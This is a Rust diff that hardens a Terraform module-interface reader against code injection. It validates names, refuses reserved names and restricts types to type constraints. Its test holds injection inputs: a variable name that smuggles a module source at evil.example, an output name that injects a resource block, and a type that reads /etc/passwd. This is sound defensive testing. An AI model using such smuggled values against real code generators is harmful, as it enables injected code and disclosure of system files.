@@ -182,8 +182,28 @@ fn literal_bool(
     }
 }
 
+/// Terraform's reserved names: a module cannot take a variable called so.
+const RESERVED_VARIABLES: [&str; 8] = [
+    "source",
+    "version",
+    "providers",
+    "count",
+    "for_each",
+    "lifecycle",
+    "depends_on",
+    "locals",
+];
+
 fn read_variable(file: &str, block: &Block) -> Result<ModuleVariable, ModuleError> {
     let name = single_label(file, block)?.to_string();
+    crate::domain::names::validate_identifier(&name)
+        .map_err(|why| invalid(file, format!("variable: {why}")))?;
+    if RESERVED_VARIABLES.contains(&name.as_str()) {
+        return Err(invalid(
+            file,
+            format!("variable {name:?}: the name is reserved by Terraform"),
+        ));
+    }
     let owner = format!("variable {name:?}");
     let default = match attribute(block, "default") {
         None => None,
@@ -228,8 +248,17 @@ fn read_variable(file: &str, block: &Block) -> Result<ModuleVariable, ModuleErro
             error_message,
         });
     }
+    // The type is written back into generated code: it must be a type constraint, nothing else
+    // an expression can be (a function call, a template, a heredoc).
+    let type_expr = attribute(block, "type").map(|e| e.to_string());
+    crate::domain::variable_types::TypeConstraint::parse(type_expr.as_deref()).map_err(|why| {
+        invalid(
+            file,
+            format!("{owner}: the type is not a type constraint: {why}"),
+        )
+    })?;
     Ok(ModuleVariable {
-        type_expr: attribute(block, "type").map(|e| e.to_string()),
+        type_expr,
         default,
         description,
         sensitive: literal_bool(
@@ -248,6 +277,8 @@ fn read_variable(file: &str, block: &Block) -> Result<ModuleVariable, ModuleErro
 
 fn read_output(file: &str, block: &Block) -> Result<ModuleOutput, ModuleError> {
     let name = single_label(file, block)?.to_string();
+    crate::domain::names::validate_identifier(&name)
+        .map_err(|why| invalid(file, format!("output: {why}")))?;
     let owner = format!("output {name:?}");
     if attribute(block, "value").is_none() {
         return Err(invalid(file, format!("{owner}: an output needs a value")));
@@ -425,6 +456,49 @@ output "password" {
                 .starts_with("aws-vpc/main.tf:3:13: invalid expression"),
             "{error}"
         );
+    }
+
+    #[test]
+    fn names_and_types_that_would_write_code_of_their_own_are_refused() {
+        for (text, expected) in [
+            (
+                "variable \"a = 1\\n  source = \\\"git::https://evil.example/m\\\"\\n  b\" {}\n",
+                "m/a.tf: variable: \"a = 1\\n  source = \\\"git::",
+            ),
+            (
+                "output \"x\\\" {}\\nresource \\\"null_resource\\\" \\\"y\" { value = 1 }\n",
+                "m/a.tf: output: \"x\\\" {}\\nresource",
+            ),
+            (
+                "variable \"count\" {}\n",
+                "m/a.tf: variable \"count\": the name is reserved by Terraform",
+            ),
+            (
+                "variable \"t\" {\n  type = file(\"/etc/passwd\")\n}\n",
+                "m/a.tf: variable \"t\": the type is not a type constraint",
+            ),
+        ] {
+            let error = discover_interface(&[ModuleFile {
+                path: "m/a.tf",
+                text,
+            }])
+            .unwrap_err();
+            let said = error.to_string();
+            assert!(said.starts_with(expected), "{text}\n→ {said}");
+            assert!(
+                said.contains("not a Terraform identifier")
+                    || said.contains("reserved")
+                    || said.contains("not a type constraint"),
+                "{said}"
+            );
+        }
+        // What Terraform allows still passes: underscores, hyphens, digits after the first.
+        let fine = discover_interface(&[ModuleFile {
+            path: "m/a.tf",
+            text: "variable \"_x-1\" {}\noutput \"Id_2\" { value = 1 }\n",
+        }])
+        .unwrap();
+        assert_eq!(fine.variables[0].name, "_x-1");
     }
 
     #[test]
